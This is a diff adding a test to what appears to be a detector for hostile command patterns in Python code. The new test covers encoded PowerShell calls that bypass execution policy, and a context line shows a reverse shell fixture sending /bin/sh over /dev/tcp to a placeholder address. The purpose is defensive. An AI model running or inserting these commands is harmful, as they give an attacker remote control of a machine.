@@ -61,6 +61,18 @@ PY
 	[ "${#lines[@]}" -eq 3 ]
 }
 
+@test "DownloadAndRun: powershell -EncodedCommand built at run time; not a plain powershell call" {
+	py m.py <<'PY'
+a = f"powershell.exe -ExecutionPolicy Bypass -EncodedCommand {encoded}"
+b = f"powershell.exe -File {script}"
+c = f"powershell -enc {x} -NoProfile"
+PY
+	run dets m.py DownloadAndRun
+	assert_line --index 0 --partial "1 DownloadAndRun powershell.exe -ExecutionPolicy Bypass -EncodedCommand {}"
+	assert_line --index 1 --partial "3 DownloadAndRun powershell -enc {}"
+	[ "${#lines[@]}" -eq 2 ]
+}
+
 @test "ReverseShell: /bin/sh -i and nc -e; not a plain /bin/sh" {
 	py m.py <<'PY'
 a = "bash -c '/bin/sh -i >& /dev/tcp/192.0.2.1/4444 0>&1'"
